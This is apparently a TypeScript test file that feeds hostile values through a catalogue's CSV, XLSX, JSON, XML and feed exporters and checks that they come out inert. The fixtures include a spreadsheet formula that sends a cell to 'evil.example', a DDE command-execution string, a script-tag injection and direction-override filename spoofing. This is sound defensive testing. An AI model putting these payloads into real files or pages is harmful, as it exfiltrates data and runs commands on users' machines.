import { getIssues } from '@placemarkio/check-geojson';
import fc from 'fast-check';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import readXlsxFile from 'read-excel-file/node';
import { beforeAll, describe, expect, test } from 'vitest';
import { publishCatalogue } from '#lib/exports/publish-catalogue.ts';
import { writeCsv } from '#lib/exports/write-csv.ts';
import { writeFeed } from '#lib/exports/write-feed.ts';
import { element, writeXml } from '#lib/exports/write-xml.ts';
import { writeApi } from './build-api.ts';
import { writeDownloads, type Download } from './build-downloads.ts';
import { loadCatalogue } from './catalogue.ts';
import { shapes } from './list-territories.ts';
import { imprint } from './load-publication.ts';
import { loadTerritories } from './read-territories.ts';

// What the door refuses is let in here: the writers must not need the door.

const poison = `=HYPERLINK("https://evil.example/?"&A1;"Click")`;
const script = `<script>alert("1' & 2")</script>]]>`;
const turned = "safe\u202efdp.exe\u2066\u0000\u0007\n+1;=cmd|' /C calc'!A0\t@SUM(1)";
const poisons = [poison, script, turned, '"quoted", "twice"', "-2+3'", '＝1+1', '\ufeff=1'];

const all = { en: poisons.join(' '), zh: poisons.toReversed().join(' ') };
const catalogue = loadCatalogue();
const poisoned = publishCatalogue(
  {
    ...catalogue,
    initiatives: catalogue.initiatives.map((initiative, i) => ({
      ...initiative,
      title: { en: poisons[i % poisons.length] ?? '', zh: poisons[(i + 1) % poisons.length] ?? '' },
      summary: all,
      countries: initiative.countries.map(({ code }) => ({ code, note: all })),
      places: initiative.places.map((place) => ({ ...place, name: { en: poison, zh: turned } })),
      source: { ...initiative.source, section: script, links: ["https://example.org/?a=\"><script>&b='1'"] }
    }))
  },
  loadTerritories(),
  shapes,
  imprint
);

/** Marks that turn the writing direction, and characters that nobody sees. */
const unseen = /(?![\t\r\n])\p{Cc}|[\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

let files: Download[];
beforeAll(async () => void (files = await writeDownloads(poisoned)));
const textOf = ({ bytes }: Download) => new TextDecoder().decode(bytes);
const ofType = (type: string) => files.filter((file) => file.type.startsWith(type));

test('no file has characters that nobody sees', () => {
  for (const file of files.filter(({ name }) => !/\.(xlsx|zip)$/.test(name))) {
    expect(unseen.test(textOf(file)), file.name).toBe(false);
  }
});

describe('CSV', () => {
  /** What each cell begins with, for a spreadsheet whose cells end at a comma, a semicolon or a tab. */
  const starts = (csv: string, delimiter: string) =>
    Papa.parse<string[]>(csv, { delimiter })
      .data.flat()
      .map((cell) => cell.trimStart().slice(0, 1));

  test('has no cell that a spreadsheet runs, whatever it takes for the end of a cell', () => {
    expect(ofType('text/csv').length).toBeGreaterThan(5);
    for (const file of ofType('text/csv')) {
      expect(starts(textOf(file), ','), file.name).not.toContain('=');
      expect(starts(textOf(file), ','), file.name).not.toContain('@');
      expect(starts(textOf(file), ';'), file.name).not.toContain('=');
      expect(starts(textOf(file), '\t'), file.name).not.toContain('=');
    }
  });

  test('is read back as it was written, with an apostrophe before what would run', () => {
    const [row] = Papa.parse<string[]>(
      writeCsv({ fields: [], cells: [[poison, '"a", "b"', -5, 'a\r\nb', undefined]] }),
      {
        skipEmptyLines: true
      }
    ).data.slice(-1);
    expect(row).toEqual([`'${poison.replace(';=', ";'=")}`, '"a", "b"', '-5', 'a\r\nb', '']);
  });

  test('any text is one cell, and is no formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (cells) => {
        const csv = writeCsv({
          fields: cells.map((_, i) => ({ name: `c${i}`, type: 'string', about: all })),
          cells: [cells]
        });
        const row = Papa.parse<string[]>(csv.slice(1).replace(/\r\n$/, ''), { delimiter: ',' }).data.slice(1)[0] ?? [];
        expect(row).toHaveLength(cells.length);
        for (const cell of row) expect(cell.trimStart()).not.toMatch(/^[=+@-]/);
      })
    );
  });
});

test('XLSX has texts where texts were, and nothing to compute', async () => {
  for (const { bytes } of ofType('application/vnd')) {
    const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'));
    expect(parts.length).toBeGreaterThan(3);
    for (const [name, part] of parts) expect(new TextDecoder().decode(part), name).not.toMatch(/<f[\s>]|<hyperlink/);
    const [sheet] = await readXlsxFile(Buffer.from(bytes));
    const titles = sheet?.data.slice(1).map((row) => row[1]);
    expect(titles).toContain(poison);
    expect(titles).toContain(script);
  }
});

test('GeoJSON and JSON stay what they are', () => {
  for (const file of ofType('application/geo+json')) expect(getIssues(textOf(file))).toEqual([]);
  for (const file of ofType('application/json')) expect(() => JSON.parse(textOf(file))).not.toThrow();
  expect(() => JSON.stringify([...writeApi(poisoned)])).not.toThrow();
});

test('IATI and the feed have no element of the catalogue’s making', () => {
  const feed = writeFeed(poisoned, {
    locale: 'zh',
    title: script,
    self: '/',
    home: '/',
    pageOf: (id) => `/${id}/`,
    nameOf: (id) => `urn:x:${id}`
  });
  const iati = ofType('application/xml').map(textOf);
  expect(iati).toHaveLength(1);
  for (const xml of [feed, ...iati]) {
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).not.toMatch(/<script|]]>/);
    expect(xml).not.toMatch(unseen);
  }
});

test('any text comes back from XML as it went in, as far as XML can hold it', () => {
  const parser = new XMLParser({
    ignoreAttributes: false,
    parseTagValue: false,
    parseAttributeValue: false,
    trimValues: false
  });
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'<>&"\'] a=中\u202e\u0001;#x'), minLength: 1 }), (text) => {
      const xml = writeXml(element('a', { b: text }, [text]));
      expect(XMLValidator.validate(xml)).toBe(true);
      const seen = text.replace(/[\p{Cc}\u202e]+/gu, ' ');
      expect(parser.parse(xml).a).toEqual({ '#text': seen, '@_b': seen });
    })
  );
});
